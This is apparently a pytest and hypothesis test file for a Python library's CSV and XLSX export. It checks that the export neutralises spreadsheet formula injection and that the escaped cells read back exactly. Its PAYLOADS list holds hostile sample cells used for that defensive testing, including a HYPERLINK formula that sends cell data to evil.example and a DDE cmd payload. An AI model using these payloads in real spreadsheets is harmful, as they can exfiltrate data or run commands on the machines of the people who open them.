"""Spreadsheet-safe exports: CSV and XLSX cells open as text, and load() reads them back."""

from __future__ import annotations

import csv
import datetime as dt
import json
from dataclasses import dataclass, field
from pathlib import Path
from tempfile import TemporaryDirectory

import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from recovery_analytics import RecoveryAnalyticsError, load
from recovery_analytics.io import escape_formula, unescape_formula, write_csv, write_xlsx
from recovery_analytics.model import FIELDS, Action, Entry, Item

# Each starts with a character a spreadsheet runs as a formula, or hides one
# behind white space a spreadsheet may strip.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A2,"click")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "  =1",
]
TEXT_FIELDS = ["client", "company", "role", "employer_view", "notes"]
LIST_FIELDS = ["went_well", "went_wrong", "questions_to_ask"]


def opens_as_formula(cell: str) -> bool:
    """OWASP's test, written out here apart from the library's own rule."""
    body = cell.lstrip()
    lead = cell[: len(cell) - len(body)]
    return "\t" in lead or "\r" in lead or (body != "" and body[0] in "=+-@")


def planted(payload: str, day: int) -> Entry:
    """An entry whose every text and list field starts with ``payload``."""
    return Entry(
        interview_date=dt.date(2026, 3, day),
        entry_id=f"e-{day:012x}",
        **{name: payload for name in TEXT_FIELDS},
        went_well=(Item(payload),),
        went_wrong=(Item(payload), Item(payload + " again")),
        questions_to_ask=(payload,),
        plan_b=(Action(payload),),
    )


@dataclass
class RawLog:
    """Just what write_xlsx reads of a log, holding the payloads untouched."""

    rows: list[Entry]
    items: pd.DataFrame
    actions: pd.DataFrame
    problems: pd.DataFrame = field(
        default_factory=lambda: pd.DataFrame({"file": [], "line": [], "field": [], "message": []})
    )

    def entries(self) -> list[Entry]:
        return self.rows


def raw_log() -> RawLog:
    rows = [planted(p, day) for day, p in enumerate(PAYLOADS, start=1)]
    items = pd.DataFrame({"entry_id": [e.entry_id for e in rows], "text": PAYLOADS})
    actions = pd.DataFrame({"entry_id": [e.entry_id for e in rows], "text": PAYLOADS})
    problems = pd.DataFrame({"file": PAYLOADS, "line": 2, "field": "notes", "message": PAYLOADS})
    return RawLog(rows, items, actions, problems)


def read_csv_cells(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def in_xlsx(text: str) -> str:
    # XLSX keeps a line break as a line feed, so a carriage return becomes one
    return text.replace("\r", "\n")


def squeezed(text: str) -> str:
    # a list cell holds one item per line, its white space squeezed to single spaces
    return " ".join(text.split())


# -- CSV ------------------------------------------------------------------------------


def test_csv_cells_of_planted_entries_open_as_text(tmp_path: Path) -> None:
    path = write_csv([planted(p, day) for day, p in enumerate(PAYLOADS, 1)], tmp_path / "a.csv")
    rows = read_csv_cells(path)
    assert len(rows) == len(PAYLOADS)
    for row, payload in zip(rows, PAYLOADS, strict=True):
        for name in TEXT_FIELDS:
            assert row[name] == "'" + payload
        assert row["went_well"] == "'" + squeezed(payload)
        assert row["went_wrong"] == "'" + squeezed(payload) + "\n" + squeezed(payload) + " again"
        assert row["questions_to_ask"] == "'" + squeezed(payload)
        assert row["plan_b"] == "[ ] " + squeezed(payload)  # starts with "[": safe as it is
        for cell in row.values():
            assert not opens_as_formula(cell), cell


def test_csv_keep_writes_cells_as_they_are(tmp_path: Path) -> None:
    entries = [planted(p, day) for day, p in enumerate(PAYLOADS, 1)]
    rows = read_csv_cells(write_csv(entries, tmp_path / "a.csv", formulas="keep"))
    for row, payload in zip(rows, PAYLOADS, strict=True):
        for name in TEXT_FIELDS:
            assert row[name] == payload
        assert row["went_well"] == squeezed(payload)


def test_a_number_that_reads_as_a_formula_is_quoted_too(tmp_path: Path) -> None:
    entry = Entry(interview_date=dt.date(2026, 3, 1), extra={"score": -3, "plain": 4})
    (row,) = read_csv_cells(write_csv([entry], tmp_path / "a.csv"))
    assert (row["score"], row["plain"]) == ("'-3", "4")


def test_header_cells_are_quoted_and_read_back(tmp_path: Path) -> None:
    entry = Entry(interview_date=dt.date(2026, 3, 1), company="Acme", extra={"=sum": "x"})
    path = write_csv([entry], tmp_path / "a.csv")
    assert path.read_text(encoding="utf-8").splitlines()[0].endswith(",'=sum")
    log = load(path, taxonomy=False)
    assert log.interviews["extra"].iloc[0] == {"=sum": "x"}


def test_a_carriage_return_inside_a_cell_keeps_the_row_whole(tmp_path: Path) -> None:
    # unquoted, a lone CR ends the row for most readers and "=1" lands in a cell of its own
    entry = Entry(interview_date=dt.date(2026, 3, 1), notes="a\r=1", company="Acme")
    for formulas in ("escape", "keep"):
        (row,) = read_csv_cells(write_csv([entry], tmp_path / "a.csv", formulas=formulas))
        assert (row["notes"], row["company"]) == ("a\r=1", "Acme")


@pytest.mark.parametrize("bad", ["Keep", "none", "", None, True])
def test_formulas_option_is_checked(tmp_path: Path, bad: object) -> None:
    entries = [planted("=1", 1)]
    for write in (write_csv, lambda e, p, **kw: write_xlsx(raw_log(), p, **kw)):
        with pytest.raises(RecoveryAnalyticsError, match=r"`formulas`.*'escape', 'keep'"):
            write(entries, tmp_path / "a.out", formulas=bad)  # type: ignore[operator]
    assert not (tmp_path / "a.out").exists()


# -- XLSX -----------------------------------------------------------------------------


def sheet_cells(path: Path) -> dict[str, list[list[openpyxl.cell.Cell]]]:
    workbook = openpyxl.load_workbook(path)
    return {ws.title: [list(r) for r in ws.iter_rows()] for ws in workbook.worksheets}


def test_xlsx_cells_of_planted_entries_are_text_never_formulas(tmp_path: Path) -> None:
    path = write_xlsx(raw_log(), tmp_path / "a.xlsx")
    sheets = sheet_cells(path)
    assert list(sheets) == ["interviews", "items", "actions", "problems"]
    for rows in sheets.values():
        for row in rows:
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s" and not opens_as_formula(cell.value)
    header = [c.value for c in sheets["interviews"][0]]
    assert header == list(FIELDS)
    for row, payload in zip(sheets["interviews"][1:], PAYLOADS, strict=True):
        values = dict(zip(header, [c.value for c in row], strict=True))
        for name in TEXT_FIELDS:
            assert values[name] == "'" + in_xlsx(payload)
        assert values["went_well"] == "'" + squeezed(payload)
        assert values["interview_date"].date() == dt.date(2026, 3, PAYLOADS.index(payload) + 1)
    for name in ("items", "actions"):
        texts = [row[1].value for row in sheets[name][1:]]
        assert texts == ["'" + in_xlsx(p) for p in PAYLOADS]
    assert [row[0].value for row in sheets["problems"][1:]] == ["'" + in_xlsx(p) for p in PAYLOADS]


def test_xlsx_keep_writes_the_text_as_it_is_but_still_as_text(tmp_path: Path) -> None:
    # "keep" means no quote is added; a live formula is never written either way
    sheets = sheet_cells(write_xlsx(raw_log(), tmp_path / "a.xlsx", formulas="keep"))
    texts = [row[1] for row in sheets["items"][1:]]
    assert [c.value for c in texts] == [in_xlsx(p) for p in PAYLOADS]
    assert all(c.data_type == "s" and c.quotePrefix for c in texts)
    assert all(c.data_type != "f" for rows in sheets.values() for r in rows for c in r)


def test_xlsx_keeps_error_codes_and_awkward_characters_as_text(tmp_path: Path) -> None:
    log = raw_log()
    log.items = pd.DataFrame({"entry_id": ["e-1", "e-2"], "text": ["#N/A", "bell\x07ring"]})
    sheets = sheet_cells(write_xlsx(log, tmp_path / "a.xlsx"))
    cells = [row[1] for row in sheets["items"][1:]]
    assert [c.value for c in cells] == ["#N/A", "bell\ufffdring"]  # XML cannot hold \x07
    assert [c.data_type for c in cells] == ["s", "s"]


def test_xlsx_refuses_a_text_longer_than_a_cell_holds(tmp_path: Path) -> None:
    log = raw_log()
    log.items = pd.DataFrame({"entry_id": ["e-1"], "text": ["x" * 32_768]})
    with pytest.raises(RecoveryAnalyticsError, match=r"'items', row 2, column 'text'.*32767"):
        write_xlsx(log, tmp_path / "a.xlsx")
    assert not (tmp_path / "a.xlsx").exists()


def test_excel_export_is_private(tmp_path: Path, private_umask: None) -> None:
    path = write_xlsx(raw_log(), tmp_path / "out" / "a.xlsx")
    assert path.stat().st_mode & 0o777 == 0o600
    assert not [p.name for p in path.parent.iterdir() if p != path]  # no temporary left


# -- reading back -----------------------------------------------------------------------


def comparable(log) -> tuple[pd.DataFrame, pd.DataFrame, pd.DataFrame]:
    interviews = log.interviews.drop(columns=["source", "extra"]).sort_index()
    items = log.items.sort_values(["entry_id", "polarity", "text"]).reset_index(drop=True)
    actions = log.actions.sort_values(["entry_id", "text"]).reset_index(drop=True)
    return interviews, items, actions


def assert_same_log(got, want) -> None:
    for a, b in zip(comparable(got), comparable(want), strict=True):
        pd.testing.assert_frame_equal(a, b, check_categorical=False)


def planted_log(tmp_path: Path):
    # the payloads, plus texts that start with a quote of their own
    texts = [*PAYLOADS, "'=x", "''-1", "'ok", "' =1"]
    records = [
        {
            "interview_date": f"2026-03-{day:02d}",
            **{name: text for name in TEXT_FIELDS},
            **{name: [text, text + " again"] for name in LIST_FIELDS},
            "plan_b": [{"text": text, "done": day % 2 == 0}],
        }
        for day, text in enumerate(texts, start=1)
    ]
    source = tmp_path / "source.jsonl"
    source.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    return load(source, taxonomy=False)


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_load_reads_an_export_back_to_the_original_text(tmp_path: Path, suffix: str) -> None:
    log = planted_log(tmp_path)
    assert "'=x" in log.interviews["notes"].tolist()  # the quotes are really in the log
    path = tmp_path / f"export.{suffix}"
    log.to_csv(path) if suffix == "csv" else log.to_excel(path)
    assert_same_log(load(path, taxonomy=False), log)


def test_a_keep_export_reads_back_unchanged_but_for_its_own_quotes(tmp_path: Path) -> None:
    # the one ambiguity: a cell that itself starts with a quote before a formula
    # character reads as if the writer had quoted it
    log = planted_log(tmp_path)
    log.to_csv(tmp_path / "keep.csv", formulas="keep")
    back = load(tmp_path / "keep.csv", taxonomy=False)
    again = back.interviews.loc[log.interviews.index, "notes"]
    notes = dict(zip(log.interviews["notes"], again, strict=True))
    assert notes["=cmd|' /C calc'!A0"] == "=cmd|' /C calc'!A0"
    assert notes["'ok"] == "'ok"
    assert notes["'=x"] == "=x"


def test_restore_takes_off_only_the_writers_quotes_and_leaves_the_input_alone() -> None:
    from recovery_analytics.io._formulas import restore_formulas

    raw = pd.DataFrame(
        {
            "'=col": pd.Series(["'=1", "'ok", None, "''-2"], dtype="str"),
            "mixed": pd.Series(["'+1", 4, "'@x", None], dtype=object),  # as XLSX gives
            "feeling": [1, 2, 3, 4],
        }
    )
    before = raw.copy()
    out = restore_formulas(raw)
    assert list(out.columns) == ["=col", "mixed", "feeling"]
    assert out["=col"].tolist()[:2] == ["=1", "'ok"] and out["=col"].iloc[3] == "'-2"
    assert out["mixed"].tolist()[:3] == ["+1", 4, "@x"]
    assert out["=col"].dtype == raw["'=col"].dtype
    pd.testing.assert_frame_equal(raw, before)


def test_escaping_is_undone_exactly() -> None:
    for text in [*PAYLOADS, "'=x", "''+1", "'", "'ok", "ok", "", " ' =1", "a=b"]:
        assert unescape_formula(escape_formula(text)) == text


_words = st.text(
    alphabet=st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")), max_size=10
)
# what a person might start a note with, on purpose or by pasting
_leads = st.sampled_from(["", "'", "''", "=", "+", "-", "@", "' ", "=HYPERLINK(", "-- "])
note = st.builds("".join, st.tuples(_leads, _words)).filter(lambda t: t.strip())


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.tuples(note, note, st.lists(note, max_size=3)), min_size=1, max_size=4))
def test_xlsx_and_csv_read_back_as_written(rows: list[tuple[str, str, list[str]]]) -> None:
    records = [
        {
            "interview_date": f"2026-03-{day:02d}",
            "client": client,
            "notes": text,
            "questions_to_ask": questions,
        }
        for day, (client, text, questions) in enumerate(rows, start=1)
    ]
    with TemporaryDirectory() as tmp:
        root = Path(tmp)
        (root / "s.jsonl").write_text(
            "".join(json.dumps(r) + "\n" for r in records), encoding="utf-8"
        )
        log = load(root / "s.jsonl", taxonomy=False)
        log.to_csv(root / "a.csv")
        log.to_excel(root / "a.xlsx")
        for name in ("a.csv", "a.xlsx"):
            assert_same_log(load(root / name, taxonomy=False), log)


# -- the property -----------------------------------------------------------------------

# text that often starts with white space, quotes and formula characters
_alphabet = st.characters(codec="utf-8", exclude_categories=("Cs", "Cc"))
risky = st.builds(
    "".join,
    st.tuples(
        st.text(" \t\r\n\u00a0", max_size=2),
        st.sampled_from(["", "'", "''", "=", "+", "-", "@", "\t", "\r"]),
        st.text(alphabet=_alphabet, max_size=12),
    ),
)


@st.composite
def risky_entries(draw: st.DrawFn) -> Entry:
    return Entry(
        interview_date=dt.date(2026, 3, 1),
        **{name: draw(risky) for name in TEXT_FIELDS},
        went_well=tuple(Item(t) for t in draw(st.lists(risky, max_size=2)) if t.strip()),
        questions_to_ask=tuple(t for t in draw(st.lists(risky, max_size=2)) if t.strip()),
        extra={draw(risky) or "k": draw(risky)},
    )


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(risky_entries(), min_size=1, max_size=3))
def test_no_csv_cell_opens_as_a_formula_unless_kept(entries: list[Entry]) -> None:
    with TemporaryDirectory() as tmp:
        safe = Path(tmp) / "safe.csv"
        kept = Path(tmp) / "kept.csv"
        write_csv(entries, safe)
        write_csv(entries, kept, formulas="keep")
        with (
            safe.open(encoding="utf-8", newline="") as a,
            kept.open(encoding="utf-8", newline="") as b,
        ):
            safe_rows, kept_rows = list(csv.reader(a)), list(csv.reader(b))
    assert len(safe_rows) == len(kept_rows) == len(entries) + 1
    for safe_row, kept_row in zip(safe_rows, kept_rows, strict=True):
        for safe_cell, kept_cell in zip(safe_row, kept_row, strict=True):
            assert not opens_as_formula(safe_cell)
            assert unescape_formula(safe_cell) == kept_cell
            # a quote is added only where a spreadsheet could run the cell
            assert safe_cell == kept_cell or opens_as_formula(kept_cell.lstrip("'"))
    # "keep" really keeps: the client cells are the clients as written
    assert [row[1] for row in kept_rows[1:]] == [e.client for e in entries]
